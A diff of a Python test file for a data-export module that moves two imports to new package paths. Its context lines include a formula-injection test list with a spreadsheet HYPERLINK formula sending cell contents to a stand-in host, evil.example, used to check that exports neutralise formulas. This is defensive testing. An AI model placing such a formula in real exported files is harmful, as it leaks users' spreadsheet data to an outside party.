@@ -17,8 +17,8 @@ import pytest
 from schemas.curated import PERSONAL_COLUMNS
 from tests.conftest import query
 from tests.wap_helpers import warehouse_url  # noqa: F401
-from umkm.export import main as export_main, neutralise_formulas, read_relation, write_export
-from umkm.warehouse import Publication, publish, read_table
+from umkm.cli.export import main as export_main, neutralise_formulas, read_relation, write_export
+from umkm.publish.warehouse import Publication, publish, read_table
 
 TEST_KEY = b"test-only-key"  # the key tests.conftest.run_nightly sets
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', "+6281234567890",
